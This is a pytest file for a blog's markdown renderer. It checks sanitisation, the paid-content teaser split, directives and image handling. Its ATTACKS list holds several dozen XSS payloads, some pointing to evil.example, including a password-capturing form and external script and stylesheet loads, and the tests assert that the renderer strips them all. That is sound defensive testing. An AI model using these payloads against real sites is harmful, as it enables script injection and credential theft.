"""What becomes of a text: safe markup, a teaser, directives, pictures."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from core import BadInput
from plugins.posts import directives
from plugins.posts.directives import parse
from plugins.posts.markdown import TAGS, render
from plugins.posts.media import Medium

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='/p/media/own.png' onload=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='/ok' onclick=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p id=opened class='btn primary' data-unlock>x</p>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "[x](javascript:alert(1))",
    '[x](http://ok.example "onmouseover=alert(1)")',
    "`<script>alert(1)</script>`",
    "<!-- --><script>alert(1)</script>",
)


class Elements(HTMLParser):
    """Collect what a browser would see of a piece of HTML."""

    def __init__(self, text):
        super().__init__()
        self.seen = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))


def find(target):
    return Medium(target, f"{target.partition('.')[0]}-1.png", 40, 30)


def both(text):
    made = render(text, find, "/p/media/")
    return made.teaser, made.rest


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "Words {} words", "- {}\n", "> {}\n", "| a |\n|---|\n| {} |"]
)
def test_nothing_that_runs_or_sends_leaves(attack, around):
    """Only elements, attributes and addresses of the allow-list are left of any text."""
    stored = "".join(both("First.\n\n" + around.format(attack)))
    for tag, attributes in Elements(stored).seen:
        assert tag in TAGS, stored
        for name, value in attributes.items():
            assert not name.startswith("on"), stored
            assert name not in ("style", "srcdoc", "action", "data-unlock"), stored
            if name in ("href", "src"):
                assert re.match(r"https?:|mailto:|[/#]", value), stored
            assert name != "id", stored
            assert not (name == "class" and "btn" in value), stored


def test_the_mark_ends_the_teaser():
    """What stands above the mark is for everybody, and nothing below it."""
    teaser, rest = both("One.\n\nTwo.\n\n<!-- more -->\n\nThree.\n")

    assert teaser == "<p>One.</p>\n<p>Two.</p>"
    assert rest == "<p>Three.</p>"


def test_without_a_mark_only_the_first_paragraph_is_free():
    """Headings before it come along; a text that begins otherwise has no teaser."""
    assert both("## Top\n\nOne.\n\nTwo.") == ("<h2>Top</h2>\n<p>One.</p>", "<p>Two.</p>")
    assert both("- a list\n\nTwo.")[0] == ""
    assert both("![a](a.png)\n\nTwo.")[0] == ""
    assert both("") == ("", "")


@pytest.mark.parametrize(
    "text",
    ["A\n\n<!-- more -->\n\nB\n\n<!-- more -->", "- A\n\n  <!-- more -->\n\nB", "A <!-- more --> B",
     "A\n\n<!-- more --> B"],
)  # fmt: skip
def test_a_mark_that_does_not_stand_alone_is_an_error(text):
    """A mark that would be passed over could show what is paid for, so it stops the import."""
    with pytest.raises(BadInput):
        both(text)


def test_a_mark_in_code_is_text():
    """Who writes about the mark may show it."""
    assert "more" in "".join(both("One `<!-- more -->`.\n\n    <!-- more -->\n"))


def test_footnotes_stand_behind_the_gate():
    """A note of the teaser is part of the rest, wherever it is written."""
    teaser, rest = both("One[^a].\n\n[^a]: Secret.\n\n<!-- more -->\n\nTwo.")

    assert "Secret" not in teaser
    assert "Secret" in rest
    assert 'id="fn1"' in rest


def test_headings_start_below_the_title():
    """The title is the page's only first heading."""
    assert "<h2>A</h2>" in both("x\n\n# A")[1]


def test_pictures_are_measured_lazy_and_captioned():
    """A picture alone in its paragraph is a figure; its title is the caption."""
    rest = both('x\n\n![An <alt>](pic.png "The *caption*")')[1]

    assert rest.startswith("<figure><img")
    for part in ('src="/p/media/pic-1.png"', 'width="40"', 'height="30"', 'loading="lazy"'):
        assert part in rest
    assert "<figcaption>The *caption*</figcaption>" in rest


@pytest.mark.parametrize("target", ["http://e.example/a.png", "//e.example/a.png", "/a.png"])
def test_pictures_from_elsewhere_are_refused(target):
    """A page of this site loads nothing from anybody else."""
    with pytest.raises(BadInput):
        both(f"![a]({target})")


def test_what_a_file_is_used_for_says_who_gets_it():
    """A file in teaser or cover is public; one that occurs only behind the gate is not."""
    text = "![a](a.png)\n\n<!-- more -->\n\n![b](b.png) ![a](a.png) [c](c.pdf)"
    made = render(text, find, "/p/media/", "cover.png")

    assert {one.file: one.public for one in made.media} == {
        "cover.png": True, "a.png": True, "b.png": False, "c.pdf": False,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("{{ tipjar }}", ("tipjar", {})),
        ("{{tipjar}}", ("tipjar", {})),
        ("  {{ tipjar amount=2 }}  ", ("tipjar", {"amount": "2"})),
        ('{{ a b="two words" c=d }}', ("a", {"b": "two words", "c": "d"})),
        ('{{ a b="" }}', ("a", {"b": ""})),
        ("{{ a }} and more", None),
        ("{{ }}", None),
        ("{{ Ä }}", None),
        ("{{ a b }}", None),
        ('{{ a b="open }}', None),
    ],
)
def test_a_directive_has_a_name_and_arguments(line, expected):
    """`{{ name key=value key="two words" }}`, alone on its line."""
    assert parse(line) == expected


def test_directives_are_drawn_with_the_page(monkeypatch):
    """The text keeps them; what the plugin draws is not sanitised, what the text says is."""
    monkeypatch.setattr(directives, "draw_embed", lambda name, given: f"<form>{name}{given}</form>")
    rest = both('x\n\n<!-- more -->\n{{ jar say="<b>" }}\n<script>no</script>')[1]

    assert directives.drawn(rest).count("<form>jar{'say': '<b>'}</form>") == 1
    assert "script" not in rest
    assert directives.without(rest) == ""


@pytest.mark.parametrize(
    "text", ["    {{ jar }}", "```\n{{ jar }}\n```", "`{{ jar }}`", "- {{ jar }}", "x {{ jar }} y"]
)
def test_directives_in_code_and_in_lines_stay_text(text):
    """Only a line of the text itself is one."""
    stored = "".join(both("x\n\n" + text))

    assert directives.SEPARATOR not in stored
    assert "{{ jar }}" in stored


def test_no_text_can_write_a_directive_of_its_own():
    """The separator never comes through, not even as a character reference."""
    stored = "".join(both('x\n\n<p>&#30;["jar",{}]&#x1e;</p>\n\n&#30;["jar",{}]&#30;'))

    assert directives.SEPARATOR not in stored
